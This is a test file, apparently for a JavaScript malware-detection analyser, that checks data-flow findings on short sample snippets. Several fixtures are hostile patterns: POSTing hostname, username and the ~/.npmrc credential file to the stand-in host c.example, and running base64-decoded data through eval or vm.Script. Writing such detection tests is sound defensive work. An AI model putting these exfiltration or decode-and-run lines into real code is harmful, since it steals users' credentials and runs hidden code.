import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { analyzeJavaScriptSource, initJavaScriptParser } from './analyze.ts';

before(async () => {
  await initJavaScriptParser();
});

/** The data-flow facts of a snippet: 'line detail'. */
function flows(code: string): string[] {
  return analyzeJavaScriptSource('index.js', Buffer.from(code))
    .constructs.filter((fact) => fact.kind === 'data-flow')
    .map((fact) => `${fact.line} ${fact.detail}`);
}

describe('light data flow', () => {
  test('through a variable, an object literal and a request object', () => {
    const got = flows(
      [
        "const os = require('os'); const https = require('https');",
        'const info = JSON.stringify({ h: os.hostname(), u: os.userInfo().username });',
        "const req = https.request({ hostname: 'c.example', method: 'POST' });",
        'req.write(info);',
      ].join('\n'),
    );
    assert.deepEqual(got, ['4 host-name+user-name -> network:https.request @c.example']);
  });

  test('through a function parameter, called before the function is defined', () => {
    const got = flows(
      [
        "const fs = require('fs');",
        "send(fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8'));",
        "function send(d) { fetch('https://c.example/x', { method: 'POST', body: d }); }",
      ].join('\n'),
    );
    assert.deepEqual(got, ['2 credential-file -> network:builtins.fetch @c.example via send']);
  });

  test('through a return value and a destructuring', () => {
    const got = flows(
      [
        "const { inflateSync } = require('zlib');",
        "function unpack(b) { return inflateSync(Buffer.from(b, 'base64')).toString(); }",
        "const { code } = { code: unpack('eJw=') };",
        'eval(code);',
      ].join('\n'),
    );
    assert.deepEqual(got, ['4 decoded -> code:builtins.eval']);
  });

  test('names that are not carried do not flow, and a name in another function is another variable', () => {
    const got = flows(
      [
        "const os = require('os');",
        'function a() { const data = os.hostname(); console.log(data); }',
        "function b(data) { fetch('https://c.example', { method: 'POST', body: data }); }",
        "fetch('https://c.example/' + process.env.NODE_ENV);",
      ].join('\n'),
    );
    assert.deepEqual(got, []);
  });
  test('a callback handed to a call is not data, and vm.SyntheticModule compiles no source', () => {
    const got = flows(
      [
        "const vm = require('vm');",
        "function load(code) { return new vm.SyntheticModule(['default'], function () { this.setExport('default', JSON.parse(code)); }); }",
        "load(Buffer.from(process.argv[2], 'base64').toString());",
        'function run(src) { return new vm.Script(src); }',
        "run(Buffer.from(process.argv[3], 'base64').toString());",
      ].join('\n'),
    );
    assert.deepEqual(got, ['5 decoded -> code:vm.Script via run']);
  });
});
